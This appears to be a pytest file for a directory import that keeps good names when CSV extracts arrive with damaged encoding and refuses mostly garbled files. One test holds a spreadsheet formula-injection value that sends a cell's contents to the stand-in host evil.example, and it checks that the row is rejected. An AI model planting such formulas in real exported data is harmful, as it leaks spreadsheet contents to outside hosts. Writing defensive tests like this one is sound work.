"""Values whose letters came damaged never go over right ones."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from shared.model import ENTERPRISE_USER
from tests.conftest import Storage
from tests.support.office import Office, open_office

ATTRIBUTES = {
    "displayName": "Name",
    "userName": {"template": "{Name}@example.com", "transliterate": "german", "replace": [{"from": " ", "to": ""}]},
    'emails[type eq "work"].value': {"copy": "userName"},
    "title": "Boss",
    f"{ENTERPRISE_USER}:department": "Zone",
}

IN_UTF_8 = "in UTF-8, or in the encoding that the mapping says (format: encoding),"


@pytest.fixture
def office(storage: Storage) -> Iterator[Office]:
    with open_office(storage.connection_string) as opened:
        status = {"column": "Status", "values": {"active": True, "gone": False}}
        opened.map(mode="full", status=status, attributes=ATTRIBUTES)
        opened.night("1,Ann Mei\u00dfner,active,,,Sales,K\u00f6chin", "2,Lee,active,,,Sales,Clerk", "4,Bo,active")
        opened.time.forward(86_400)
        yield opened


def test_the_old_value_stays_until_a_right_one_comes(office: Office) -> None:
    before = office.directory["1"]
    damaged = "1,Ann Mei\u00c3\u0178ner,active,,,Retail,K\u00c3\u00b6chin"
    others = ("2,Lee,active,,,Sales,Clerk", "4,Bo,active")
    assert office.night(damaged, *others, "3,M\u00c3\u00bcller,active") == [("1", True)]
    enterprise = {ENTERPRISE_USER: {"department": "Retail"}}
    kept = {worker_id: office.directory[worker_id] for worker_id in ("2", "4")}
    assert office.directory == {"1": {**before, **enterprise}, **kept}
    assert (office.newest()["Movers"], office.newest()["Rejected"], office.workers()["3"]) == (1, 1, "rejected")
    office.time.forward(86_400)
    assert office.night(damaged, *others) == []
    office.time.forward(86_400)
    office.night("1,Ann M\u00fcller,active,,,Retail,Koch", *others)
    assert office.directory["1"] == {
        **before, **enterprise, "displayName": "Ann M\u00fcller", "userName": "AnnMueller@example.com",
        "emails": [{"type": "work", "value": "AnnMueller@example.com"}], "title": "Koch",
    }  # fmt: skip


def test_a_formula_with_a_question_mark_is_told_as_a_formula_and_not_as_a_lost_letter(office: Office) -> None:
    link = '"=HYPERLINK(""http://evil.example/?x=""&A2)"'
    office.night("1,Ann Mei\u00dfner,active", "2,Lee,active", f"3,{link},active", "4,Bo,active")
    [row] = office.summary_of(str(office.newest()["Extract"]))["rejectedRows"]
    assert row["text"] == "Name looks like a formula; enter the name itself."
    assert office.summary_of(str(office.newest()["Extract"]))["notes"] == []


@pytest.mark.parametrize(
    ("names", "what", "advice"),
    [
        (
            ("Jos\u00bf", "P\u00bfrez"),
            "question marks in the place of letters",
            "in UTF-8 (in PowerShell: Export-Csv -Encoding UTF8)",
        ),
        *(
            (names, "signs that look like letters in a wrong encoding", IN_UTF_8)
            for names in (
                ("J\u00c3\u00b6rg", "M\u00c3\u00bcller"),
                ("J\u201drg", "M\u221a\u00baller"),
                ("L\u201aon", "Zo\u2030"),
            )
        ),
    ],
)
def test_a_file_in_which_most_names_are_damaged_is_refused(
    office: Office, names: tuple[str, str], what: str, advice: str
) -> None:
    before = office.directory
    office.night(f"1,{names[0]},active", f"2,{names[1]},active", "4,Bo,active")
    assert (office.newest()["Status"], office.directory) == ("rejected", before)
    assert office.newest()["Message"] == (
        f"2 of 3 cells of Name hold {what}, so people would get wrong names. Nothing of the file was used. Export the "
        f"list again {advice} and drop it. If it is meant, IT has this file processed all the same: python -m cli "
        "process EXTRACT --force --by NAME --reason TEXT."
    )
